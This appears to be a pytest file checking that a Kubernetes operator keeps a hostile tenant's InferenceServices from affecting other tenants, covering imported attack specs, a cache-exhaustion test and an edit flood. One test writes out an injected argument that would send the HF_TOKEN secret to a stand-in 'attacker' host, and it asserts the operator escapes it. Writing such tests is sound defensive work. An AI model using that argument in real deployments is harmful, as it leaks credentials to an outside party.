"""A tenant who may only write InferenceServices in one namespace: nothing of his reaches anybody else."""

import threading

import pytest

from hostile.attacks import ATTACKS, MODELS, Attack, model
from hostile.tenants import Honest, Tenant, Watched
from support.kube import Object
from support.services import args, service

pytestmark = [pytest.mark.control_plane, pytest.mark.slow]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_what_he_writes_is_told(watched: Watched, honest: Honest, alice: Tenant, attack: Attack) -> None:
    refused = alice.tries("create", service(attack.name, **attack.spec))
    told = refused or alice.kube.wait("it is told", 30, lambda: alice.told(attack.name, attack.condition))
    assert attack.told in told
    assert alice.kube.get("deployment", attack.name) is None or attack.condition == "Fits"
    if not refused:
        honest.goes_on(edits=1)
        watched.unharmed()


def test_a_dollar_names_no_variable(watched: Watched, alice: Tenant) -> None:
    """The kubelet would put the value of HF_TOKEN into an address that he chooses."""
    spec = {"extraArgs": ["--otlp-traces-endpoint=http://attacker/$(HF_TOKEN)"], "replicas": 0}
    assert not alice.tries("create", service("traced", **spec))
    alice.kube.wait("it has a Deployment", 30, lambda: alice.kube.get("deployment", "traced"))
    assert "--otlp-traces-endpoint=http://attacker/$$(HF_TOKEN)" in args(alice.kube, "traced")
    watched.unharmed()


def test_all_his_models_at_once(watched: Watched, honest: Honest, alice: Tenant) -> None:
    """Each four times, since one alone may be small enough: caches are bounded together."""
    services = {f"{name}-{copy}": model(name) for name in MODELS for copy in range(4)}
    listed = {"apiVersion": "v1", "kind": "List", "items": [service(name, **spec) for name, spec in services.items()]}
    assert not alice.tries("create", listed)
    honest.goes_on(edits=5)
    alice.kube.wait("all are told", 60, lambda: all(alice.told(name, "Fits") for name in services))
    watched.unharmed()
    watched.operator.restart(**watched.settings)
    honest.goes_on(edits=3)
    watched.unharmed()


def test_his_edits_do_not_delay_those_of_others(watched: Watched, honest: Honest, alice: Tenant) -> None:
    assert not alice.tries("create", flood(1000))
    ends = threading.Event()

    def edits() -> None:
        number = 1000
        while not ends.is_set():
            number += 1
            alice.tries("apply", flood(number))

    thread = threading.Thread(target=edits)
    thread.start()
    try:
        honest.goes_on(edits=9)
    finally:
        ends.set()
        thread.join()
    watched.unharmed()


def flood(length: int) -> Object:
    """Forty services, which differ in this from those before."""
    items = [service(f"flood-{number}", replicas=0, maxModelLen=length) for number in range(40)]
    return {"apiVersion": "v1", "kind": "List", "items": items}
